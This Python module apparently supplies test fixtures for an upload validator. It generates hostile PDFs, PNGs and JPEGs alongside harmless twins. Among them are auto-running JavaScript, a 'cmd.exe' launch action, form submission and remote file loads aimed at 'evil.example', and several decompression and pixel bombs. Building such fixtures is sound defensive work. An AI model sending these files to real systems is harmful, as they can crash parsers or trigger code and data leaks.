"""Files that strangers send, hostile ones and their harmless twins, made on the spot."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image

PAGE = [b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"]


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40)) -> bytes:
    data = io.BytesIO()
    Image.new("RGB", size, "#204060").save(data, kind)
    return data.getvalue()


def pdf(change: Callable[[Pdf], object] = lambda _: None, *, pages: int = 1, **saved: object) -> bytes:
    """A PDF with so many empty pages, changed as the test wants."""
    document, data = Pdf.new(), io.BytesIO()
    for _ in range(pages):
        document.add_blank_page()
    change(document)
    document.save(data, **saved)
    return data.getvalue()


def archive() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as packed:
        packed.writestr("brief.html", "<script>alert(1)</script>")
    return data.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG that says it is so large, and packs one row of pixels that goes on and on."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + name + body + zlib.crc32(name + body).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
    body = zlib.compress(bytes(5_000_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def opens(action: dict[str, object]) -> Callable[[Pdf], object]:
    """Written into the catalogue itself, without a number of its own."""

    def change(document: Pdf) -> None:
        document.Root.OpenAction = Dictionary(action)

    return change


def opens_numbered(action: dict[str, object]) -> Callable[[Pdf], object]:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(Dictionary(action))

    return change


def button(action: dict[str, object]) -> Callable[[Pdf], object]:
    """A link on the page that does this when it is touched."""

    def change(document: Pdf) -> None:
        place = Array([0, 0, 100, 100])
        document.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=place, A=Dictionary(action))]
        )

    return change


def shown(action: dict[str, object], trigger: str = "/O") -> Callable[[Pdf], object]:
    """A page that does this when it comes into view."""

    def change(document: Pdf) -> None:
        document.pages[0].AA = document.make_indirect(Dictionary({trigger: document.make_indirect(Dictionary(action))}))

    return change


def then(action: dict[str, object]) -> dict[str, object]:
    """A harmless jump, and after it the action."""
    return {"/S": Name.GoTo, "/D": Array([0, Name.Fit]), "/Next": Array([Dictionary(action)])}


def opens_in_circles(document: Pdf) -> None:
    """Jumps that follow each other for ever."""
    jump = document.make_indirect(Dictionary({"/S": Name.GoTo, "/D": Array([0, Name.Fit])}))
    jump.Next = Array([jump, jump])
    document.Root.OpenAction = jump


def opens_on_its_page(document: Pdf) -> None:
    """As most programs write it: the first page, as a place. On it a link to the web."""
    button(WEB)(document)
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def with_attachment(document: Pdf) -> None:
    document.attachments["rechnung.exe"] = b"MZ"


def with_xfa(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Array([]))


def with_plain_form(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]))


def with_stream(packed: bytes, **more: object) -> Callable[[Pdf], object]:
    def change(document: Pdf) -> None:
        stream = Stream(document, b"")
        stream.write(packed, filter=more.get("filter", Name.FlateDecode))
        document.pages[0].Contents = document.make_indirect(stream)

    return change


def with_image(width: int, height: int) -> Callable[[Pdf], object]:
    def change(document: Pdf) -> None:
        image = Stream(document, b"\0")
        image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, width, height
        image.ColorSpace, image.BitsPerComponent = Name.DeviceGray, 8
        document.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=document.make_indirect(image)))

    return change


def nested(depth: int) -> bytes:
    """A PDF whose catalogue holds an array in an array in an array …"""
    inner = b"[" * depth + b"]" * depth
    return numbered([b"<</Type/Catalog/Pages 2 0 R/Deep " + inner + b">>", *PAGE])


def disguised() -> bytes:
    """A script whose name is written by numbers of its letters."""
    action = b"<</S/J#61vaScript/#4aS(app.alert(1))>>"
    return numbered([b"<</Type/Catalog/Pages 2 0 R/OpenAction" + action + b">>", *PAGE])


def numbered(bodies: list[bytes]) -> bytes:
    """A whole PDF of these objects, with a right table of places."""
    parts, places, at = [b"%PDF-1.4\n"], [], 9
    for number, body in enumerate(bodies, 1):
        places.append(at)
        parts.append(b"%d 0 obj%s endobj\n" % (number, body))
        at += len(parts[-1])
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1) + table)
    parts.append(b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, at))
    return b"".join(parts)


def many_objects(count: int) -> bytes:
    return numbered([b"<</Type/Catalog/Pages 2 0 R>>", *PAGE, *[b"null"] * (count - 3)])


def packed_objects(count: int) -> bytes:
    """So many numbers in one packed stream, and their places in another (ISO 32000-1 §7.5.7 and §7.5.8): four bytes each."""
    inner = b"".join(b"%d %d " % (number + 6, number * 2) for number in range(count))
    packed = zlib.compress(inner + b"0 " * count, 1)
    head = b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>" % (count, len(inner), len(packed))
    parts, places, at = [b"%PDF-1.5\n"], [], 9
    for number, body in enumerate((b"<</Type/Catalog/Pages 2 0 R>>", *PAGE, _stream(head, packed)), 1):
        places.append(at)
        parts.append(b"%d 0 obj%s endobj\n" % (number, body))
        at += len(parts[-1])
    rows = [bytes(7), *(b"\1" + place.to_bytes(3, "big") + bytes(3) for place in (*places, at))]
    rows += [b"\2\0\0\4" + number.to_bytes(3, "big") for number in range(count)]
    table = zlib.compress(b"".join(rows), 1)
    head = b"<</Type/XRef/Size %d/W[1 3 3]/Root 1 0 R/Filter/FlateDecode/Length %d>>" % (count + 6, len(table))
    return b"".join(parts) + b"5 0 obj" + _stream(head, table) + b" endobj\nstartxref\n%d\n%%%%EOF\n" % at


def _stream(head: bytes, body: bytes) -> bytes:
    return head + b"stream\n" + body + b"\nendstream"


def with_streams(count: int, filters: object, packed: bytes) -> Callable[[Pdf], object]:
    """So many packed streams beside the pages."""

    def change(document: Pdf) -> None:
        for number in range(count):
            stream = Stream(document, b"")
            stream.write(packed, filter=filters)
            document.Root[f"/X{number}"] = document.make_indirect(stream)

    return change


def bomb(size: int) -> bytes:
    return zlib.compress(bytes(size), 1)


def in_hex(size: int) -> Callable[[Pdf], object]:
    """A bomb that is written in letters first."""
    return with_streams(1, Array([Name.ASCIIHexDecode, Name.FlateDecode]), bomb(size).hex().encode() + b">")


def runs(size: int) -> Callable[[Pdf], object]:
    """Two bytes for 128."""
    return with_streams(1, Name.RunLengthDecode, b"\x81\0" * (size // 128) + b"\x80")


def lzw_words(count: int) -> bytes:
    """LZW (ISO 32000-1 §7.4.4) of one letter and words each one letter longer than the one before, up to 3,000 of them."""
    bits, known = f"{256:09b}{65:09b}", 258
    for _ in range(count):
        known += 1
        bits += f"{known - 1:0{max(9, (known + 0).bit_length())}b}"
    bits += f"{257:0{max(9, (known + 2).bit_length())}b}"
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def object_stream_bomb(size: int) -> bytes:
    """The bomb lies where a reader must unpack it to find the objects (ISO 32000-1 §7.5.7)."""
    packed = zlib.compress(b"4 0 null" + b" " * size, 9)
    bodies = [b"<</Type/Catalog/Pages 2 0 R/X 4 0 R>>", *PAGE]
    parts, places, at = [b"%PDF-1.5\n"], [], 9
    bodies.append(b"<</Type/Obj#53tm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed))
    bodies[3] += packed + b"\nendstream"
    for number, body in zip((1, 2, 3, 5), bodies, strict=True):
        places.append(at)
        parts.append(b"%d 0 obj%s endobj\n" % (number, body))
        at += len(parts[-1])
    here = [b"\1" + place.to_bytes(4, "big") + b"\0" for place in (*places, at)]
    rows = b"\0\0\0\0\0\xff" + b"".join(here[:3]) + b"\2\0\0\0\5\0" + b"".join(here[3:])
    table = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>stream\n%s\nendstream" % (len(rows), rows)
    parts.append(b"6 0 obj%s endobj\nstartxref\n%d\n%%%%EOF\n" % (table, at))
    return b"".join(parts)


def reference_table_bomb(size: int) -> bytes:
    """The list of places itself is the bomb (ISO 32000-1 §7.5.8)."""
    packed = bomb(size)
    head = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj" + PAGE[0] + b" endobj\n"
    table = b"<</Type/XRef/Size 40000000/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return head + b"4 0 obj" + table + packed + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(head)


def painted(side: int, times: int) -> bytes:
    """A progressive photo whose last scan comes so many times: little to send, much to compute."""
    data = io.BytesIO()
    Image.new("RGB", (side, side), "#777").save(data, "JPEG", progressive=True, quality=20)
    photo = data.getvalue()
    begin = photo.rfind(b"\xff\xda")
    return photo[:begin] + photo[begin:-2] * times + photo[-2:]


SCRIPT = {"/S": Name.JavaScript, "/JS": "app.alert(1)"}
LAUNCH = {"/S": Name.Launch, "/F": "cmd.exe"}
SUBMIT = {"/S": Name.SubmitForm, "/F": "https://evil.example"}
FILM = {"/S": Name.Rendition}
JUMP: dict[str, object] = {"/S": Name.GoTo, "/D": Array([0, Name.Fit])}
WEB = {"/S": Name.URI, "/URI": "https://www.weissenburg.de"}
PACKED = pikepdf.ObjectStreamMode.generate
RAW: dict[str, object] = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}
TWICE = Array([Name.FlateDecode, Name.FlateDecode])
BOMB = zlib.compress(bytes(150_000_000), 9)
LOCKED = pikepdf.Encryption(owner="o", user="geheim")
PRINTABLE = pikepdf.Encryption(owner="o", user="")

# What it is, its kind, the hostile file, the code it is refused with, and its harmless twin.
CLASSES: list[tuple[str, str, Callable[[], bytes], str, Callable[[], bytes]]] = [
    ("a script that opens with the file", "pdf", lambda: pdf(opens(SCRIPT)), "file_active", lambda: pdf()),
    ("the same with a number of its own", "pdf", lambda: pdf(opens_numbered(SCRIPT)), "file_active", lambda: pdf()),
    (
        "a script in a packed object",
        "pdf",
        lambda: pdf(opens_numbered(SCRIPT), object_stream_mode=PACKED),
        "file_active",
        lambda: pdf(object_stream_mode=PACKED),
    ),
    ("a script written in disguise", "pdf", disguised, "file_active", lambda: many_objects(3)),
    ("a program behind a link", "pdf", lambda: pdf(button(LAUNCH)), "file_active", lambda: pdf(button(WEB))),
    ("a form that sends itself away", "pdf", lambda: pdf(button(SUBMIT)), "file_active", lambda: pdf(with_plain_form)),
    ("a web page that opens with the file", "pdf", lambda: pdf(opens(WEB)), "file_active", lambda: pdf(opens(JUMP))),
    (
        "a web page that opens after a jump",
        "pdf",
        lambda: pdf(opens_numbered(then(WEB))),
        "file_active",
        lambda: pdf(opens_numbered(then(JUMP))),
    ),
    ("a web page that opens with a page", "pdf", lambda: pdf(shown(WEB)), "file_active", lambda: pdf(shown(JUMP))),
    (
        "another file that opens with a page",
        "pdf",
        lambda: pdf(shown({"/S": Name.GoToR, "/F": "//evil.example/x.pdf"})),
        "file_active",
        lambda: pdf(opens_in_circles),
    ),
    (
        "values that load themselves",
        "pdf",
        lambda: pdf(shown({"/S": Name.ImportData, "/F": "//evil.example/x.fdf"}, "/PV")),
        "file_active",
        lambda: pdf(opens_on_its_page),
    ),
    ("another file inside", "pdf", lambda: pdf(with_attachment), "file_active", lambda: pdf(pages=2)),
    ("a dynamic form", "pdf", lambda: pdf(with_xfa), "file_active", lambda: pdf(with_plain_form)),
    ("a film that plays", "pdf", lambda: pdf(button(FILM)), "file_active", lambda: pdf(button(WEB))),
    ("a password", "pdf", lambda: pdf(encryption=LOCKED), "file_locked", lambda: pdf(encryption=PRINTABLE)),
    ("a million objects", "pdf", lambda: many_objects(1_000_000), "file_pages", lambda: many_objects(1_000)),
    (
        "a million packed objects",
        "pdf",
        lambda: packed_objects(1_000_000),
        "file_pages",
        lambda: packed_objects(5_000),
    ),
    ("very many pages", "pdf", lambda: pdf(pages=201), "file_pages", lambda: pdf(pages=200)),
    ("cut off", "pdf", lambda: pdf(pages=9)[:-300], "file_broken", lambda: pdf(pages=9)),
    ("no page at all", "pdf", lambda: pdf(pages=0), "file_broken", lambda: pdf()),
    ("only the first bytes of its kind", "pdf", lambda: b"%PDF-1.7\n" + bytes(500), "file_broken", lambda: pdf()),
    (
        "a page that unpacks to 150 MB",
        "pdf",
        lambda: pdf(with_stream(BOMB), **RAW),
        "file_broken",
        lambda: pdf(with_stream(zlib.compress(b"q Q"))),
    ),
    (
        "packed twice",
        "pdf",
        lambda: pdf(with_stream(zlib.compress(BOMB, 9), filter=TWICE), **RAW),
        "file_broken",
        lambda: pdf(with_stream(zlib.compress(b"q Q"))),
    ),
    (
        "a picture of many pixels inside",
        "pdf",
        lambda: pdf(with_image(60_000, 60_000)),
        "file_broken",
        lambda: pdf(with_image(1, 1)),
    ),
    ("nested without end", "pdf", lambda: nested(5_000), "file_broken", lambda: nested(20)),
    ("an archive behind the document", "pdf", lambda: pdf() + archive(), "file_broken", lambda: pdf() + b"\r\n"),
    (
        "a web page behind the document",
        "pdf",
        lambda: pdf() + b"<script>alert(1)</script>" * 100,
        "file_broken",
        lambda: pdf() + b"\n",
    ),
    ("an archive behind a photo", "jpeg", lambda: picture("JPEG") + archive(), "file_broken", lambda: picture("JPEG")),
    ("an archive behind a picture", "png", lambda: picture() + archive(), "file_broken", lambda: picture()),
    (
        "a program behind a picture",
        "png",
        lambda: picture() + b"MZ" + bytes(5_000),
        "file_broken",
        lambda: picture() + b"\n",
    ),
    ("900 million pixels", "png", lambda: png_header(30_000, 30_000), "file_pixels", lambda: picture(size=(600, 400))),
    (
        "pixels just above the bound",
        "png",
        lambda: png_header(8_000, 8_000),
        "file_pixels",
        lambda: picture(size=(800, 800)),
    ),
    (
        "a picture cut off",
        "png",
        lambda: picture(size=(900, 900))[:-40],
        "file_broken",
        lambda: picture(size=(900, 900)),
    ),
    (
        "a photo cut off",
        "jpeg",
        lambda: picture("JPEG", (900, 900))[:-2_000],
        "file_broken",
        lambda: picture("JPEG", (900, 900)),
    ),
    (
        "many streams, none too large",
        "pdf",
        lambda: pdf(with_streams(20, Name.FlateDecode, bomb(95_000_000)), **RAW),
        "file_broken",
        lambda: pdf(with_streams(20, Name.FlateDecode, bomb(95)), **RAW),
    ),
    (
        "a bomb in letters",
        "pdf",
        lambda: pdf(in_hex(120_000_000), **RAW),
        "file_broken",
        lambda: pdf(in_hex(99), **RAW),
    ),
    ("runs of a byte", "pdf", lambda: pdf(runs(120_000_000), **RAW), "file_broken", lambda: pdf(runs(9_999), **RAW)),
    (
        "a bomb among the objects",
        "pdf",
        lambda: object_stream_bomb(99_000_000),
        "file_broken",
        lambda: object_stream_bomb(9),
    ),
    ("a bomb as table of contents", "pdf", lambda: reference_table_bomb(99_000_000), "file_broken", lambda: pdf()),
    ("a photo painted again and again", "jpeg", lambda: painted(2_000, 300), "file_broken", lambda: painted(2_000, 1)),
    ("a progressive photo too large", "jpeg", lambda: painted(5_200, 1), "file_pixels", lambda: painted(900, 1)),
    ("a photo of nothing", "jpeg", lambda: b"\xff\xd8\xff" + bytes(900), "file_broken", lambda: picture("JPEG")),
]
